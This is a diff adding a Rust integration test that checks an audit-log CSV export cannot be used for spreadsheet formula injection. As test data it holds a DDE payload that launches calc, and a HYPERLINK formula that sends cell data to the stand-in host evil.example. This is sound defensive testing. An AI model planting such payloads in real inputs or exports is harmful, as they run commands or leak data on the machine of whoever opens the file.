@@ -214,3 +214,51 @@ async fn the_audit_page_filters_and_exports_only_what_the_reader_may_see(db: PgP
     assert!(!not_offered.contains("data-chain"), "the chain check is for admins");
     app.stop().await;
 }
+
+/// A rejection comment and a forwarded address are what a person outside the team can
+/// put into the audit log; neither may run in the spreadsheet of the admin who exports it.
+#[sqlx::test(migrator = "gantry::db::MIGRATOR")]
+async fn the_csv_export_cannot_be_turned_against_its_reader(db: PgPool) {
+    use gantry_tests::actions::{ask, post};
+    let app =
+        gantry_tests::spawn_on_simulator(db.clone(), &[("GANTRY_TRUSTED_PROXIES", "127.0.0.1")])
+            .await;
+    let operator = app.client_as("operator").await;
+    let approver = app.client_as("approver").await;
+    let body = serde_json::json!({"environment": "prod", "action": "restart", "workload": "redis", "reason": "@SUM(1+1)*cmd|' /C calc'!A0"});
+    let (status, asked) = ask(&app, &operator, body).await;
+    assert_eq!(status, 201, "{asked}");
+    let id = asked["request"]["id"].as_i64().unwrap();
+    let comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")";
+    let path = format!("/api/requests/{id}/reject");
+    let (status, _) = post(&app, &approver, &path, serde_json::json!({ "comment": comment })).await;
+    assert_eq!(status, 200);
+    // Through the trusted proxy: an address is believed and kept, anything else is not.
+    for forwarded in ["203.0.113.9", "=1+1"] {
+        let response = gantry_tests::anonymous_client()
+            .get(app.url("/api/me"))
+            .header("x-forwarded-for", forwarded)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 401);
+    }
+    let csv = app.get("/api/audit.csv").await.text().await.unwrap();
+    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"), "{csv}");
+    assert!(!csv.contains(",\"=") && !csv.contains(",\"@") && !csv.contains(",\"+"), "{csv}");
+    let kept: Vec<(Option<String>, Option<String>)> = sqlx::query_as(
+        "select client_addr, forwarded_for from audit_event where kind = 'denied' and request = 'GET /api/me' order by audit_event_id",
+    )
+    .fetch_all(&db)
+    .await
+    .unwrap();
+    assert_eq!(
+        kept,
+        [
+            (Some("203.0.113.9".to_owned()), Some("203.0.113.9".to_owned())),
+            (Some("127.0.0.1".to_owned()), None)
+        ],
+        "the forwarded address, believed from the proxy only when it is one"
+    );
+    app.stop().await;
+}
